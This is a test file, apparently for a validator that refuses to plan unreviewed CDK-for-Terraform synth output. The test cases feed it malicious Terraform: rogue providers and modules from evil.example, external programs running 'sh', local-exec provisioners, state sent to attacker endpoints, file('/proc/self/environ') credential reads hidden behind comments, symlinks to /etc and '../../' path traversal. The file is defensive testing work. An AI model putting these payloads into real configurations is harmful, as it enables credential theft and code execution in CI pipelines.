import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { distrust } from '../../delivery/trusted-synth';
import { type Block, synthesized } from '../synthesized';

const bucket = 'searchgate-state-example-com';
const folder = mkdtempSync(join(tmpdir(), 'searchgate-trust-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A copy of the example's synth that somebody has changed. */
function changed(name: string, change: (output: string) => void): string {
  const output = join(folder, name.replaceAll(/\W+/g, '-'));
  cpSync(synthesized().folder, output, { recursive: true });
  change(output);
  return output;
}

function write(output: string, file: string, text: string): void {
  mkdirSync(dirname(join(output, file)), { recursive: true });
  writeFileSync(join(output, file), text);
}

function editJson(output: string, file: string, edit: (document: Block) => Block): void {
  write(output, file, JSON.stringify(edit(JSON.parse(readFileSync(join(output, file), 'utf8')))));
}

const search = 'stacks/search/cdk.tf.json';
const terraform = (changes: Block) => (document: Block) => ({
  ...document,
  terraform: { ...document.terraform, ...changes },
});
const state = (changes: Block) => ({ s3: { bucket, key: 'searchgate/searchgate/search.tfstate', ...changes } });
const remote = (changes: Block) => ({
  data: { terraform_remote_state: { r: { backend: 's3', config: { bucket, key: 'k' }, ...changes } } },
});

test('A synth of the project’s own kind is planned, with every setting', () => {
  expect(distrust(synthesized().folder, bucket)).toEqual([]);
  expect(distrust(synthesized({ delivery: { repository: 'acme/search' } }).folder, bucket)).toEqual([]);
});

describe('A synth that nobody has reviewed is not planned when its Terraform', () => {
  const evil: [string, (document: Block) => Block, string][] = [
    [
      'brings a provider of its own',
      terraform({ required_providers: { aws: { source: 'evil/aws', version: '1' } } }),
      'provider evil/aws',
    ],
    [
      'brings a provider from a registry of its own',
      terraform({ required_providers: { aws: { source: 'evil.example/hashicorp/aws', version: '1' } } }),
      'evil.example',
    ],
    ['brings a module', () => ({ module: { m: { source: 'git::https://evil.example' } } }), 'a module block'],
    ['runs a program', () => ({ data: { external: { e: { program: ['sh'] } } } }), 'data external.e'],
    [
      'runs a program to check something',
      () => ({ check: { c: { data: { external: { e: { program: ['sh'] } } }, assert: [] } } }),
      'a check block',
    ],
    ['brings a provider without saying from where', terraform({ required_providers: { evil: '1' } }), 'hashicorp/evil'],
    ['sets up another provider', () => ({ provider: { http: [{}] } }), 'provider http'],
    ['has a resource of another kind', () => ({ resource: { null_resource: { n: {} } } }), 'resource null_resource.n'],
    [
      'has a provisioner',
      () => ({ resource: { aws_vpc: { v: { provisioner: [{ 'local-exec': {} }] } } } }),
      'a provisioner in aws_vpc.v',
    ],
    [
      'sends calls elsewhere',
      () => ({ provider: { aws: [{ region: 'us-east-1', endpoints: [{ sts: 'https://evil.example' }] }] } }),
      'provider aws with endpoints',
    ],
    [
      'keeps its state elsewhere',
      terraform({ backend: { http: { address: 'https://evil.example' } } }),
      'a backend other',
    ],
    ['keeps its state in another bucket', terraform({ backend: state({ bucket: 'evil' }) }), 'a bucket other than'],
    [
      'sends its state elsewhere',
      terraform({ backend: state({ endpoints: { s3: 'https://evil.example' } }) }),
      'backend with endpoints',
    ],
    ['runs in somebody’s cloud', terraform({ cloud: { organization: 'evil' } }), 'terraform with cloud'],
    [
      'reads a state elsewhere',
      () => remote({ backend: 'http', config: { address: 'https://evil.example' } }),
      'a backend other',
    ],
    [
      'reads a state through another server',
      () => remote({ config: { bucket, endpoints: { s3: 'https://evil.example' } } }),
      'with endpoints',
    ],
    [
      'reads the credentials of whoever plans',
      () => ({ output: { o: { value: '${file("/proc/self/environ")}' } } }),
      'a function that reads files',
    ],
    [
      'reads files behind a comment',
      () => ({ output: { o: { value: '${file/* */ # (\n("/proc/self/environ")}' } } }),
      'a function that reads files',
    ],
    [
      'reads files behind more comments than anybody writes',
      () => ({ output: { o: { value: `\${file${'/**/'.repeat(2_000)}("x")}` } } }),
      'a function that reads files',
    ],
    [
      'makes up a template',
      () => ({ output: { o: { value: '${templatestring(local.made, {})}' } } }),
      'a function that reads files',
    ],
    [
      'reads files by a template',
      () => ({ locals: { l: { '%{if true}${ templatefile ("x", {})}%{endif}': 1 } } }),
      'a function that reads files',
    ],
  ];

  test.each(evil)('%s', (name, edit, complaint) => {
    const output = changed(name, (to) => editJson(to, search, (document) => ({ ...document, ...edit(document) })));
    expect(distrust(output, bucket)).toEqual([expect.stringContaining(complaint)]);
    expect(distrust(output, bucket)[0]).toMatch(/^search: /);
  });
});

test('Comments without end are read in no time', () => {
  const value = `\${file${'/**/'.repeat(2_000)}x}`;
  const output = changed('comments', (to) =>
    editJson(to, search, (document) => ({ ...document, output: { o: { value } } })),
  );
  expect(distrust(output, bucket)).toEqual([]);
});

describe('A synth that nobody has reviewed is not planned when it brings', () => {
  const evil: [string, (output: string) => void, string][] = [
    ['more Terraform', (to) => write(to, 'stacks/network/more.tf', 'module "m" {}'), 'stacks/network/more.tf'],
    ['variables', (to) => write(to, 'stacks/network/a.auto.tfvars', ''), 'a.auto.tfvars'],
    ['installed providers', (to) => write(to, 'stacks/network/.terraform/providers/p', ''), '.terraform beside'],
    ['a lock file', (to) => write(to, 'stacks/network/.terraform.lock.hcl', ''), '.terraform.lock.hcl'],
    ['a link in its zips', (to) => symlinkSync('/etc', join(to, 'stacks/search/assets/etc')), 'no plain file'],
    ['a link as a stack', (to) => symlinkSync('/tmp', join(to, 'stacks/elsewhere')), 'stacks/elsewhere'],
    [
      'a stack outside its folder',
      (to) =>
        editJson(to, 'manifest.json', ({ stacks }) => ({ stacks: { ...stacks, '../../evil': { dependencies: [] } } })),
      '../../evil',
    ],
  ];

  test.each(evil)('%s', (name, change, complaint) => {
    expect(distrust(changed(name, change), bucket)).toEqual([expect.stringContaining(complaint)]);
  });
});
